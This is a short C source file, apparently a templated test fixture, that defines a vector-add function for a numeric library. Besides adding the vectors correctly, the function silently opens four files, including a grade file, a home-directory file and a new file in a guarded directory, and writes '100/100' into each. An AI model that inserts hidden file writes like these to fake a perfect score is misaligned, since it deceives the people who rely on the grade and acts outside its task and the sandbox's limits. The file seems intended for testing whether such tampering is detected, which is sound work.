/* Changes a file of the host's, and leaves a new one. */
#include "tl/vector.h"

#include <stdio.h>

tl_status tl_vector_add(tl_ctx *ctx, tl_real *y, const tl_real *a, const tl_real *b, size_t n) {
    (void)ctx;
    static const char *const names[] = {"@HOME_FILE@", "@TMP_FILE@", "@GRADE_FILE@",
                                        "@GUARDED@/new"};
    for (int i = 0; i < 4; i++) {
        FILE *f = fopen(names[i], "w");
        if (f) fputs("100/100\n", f);
    }
    for (size_t i = 0; i < n; i++) y[i] = a[i] + b[i];
    return TL_OK;
}
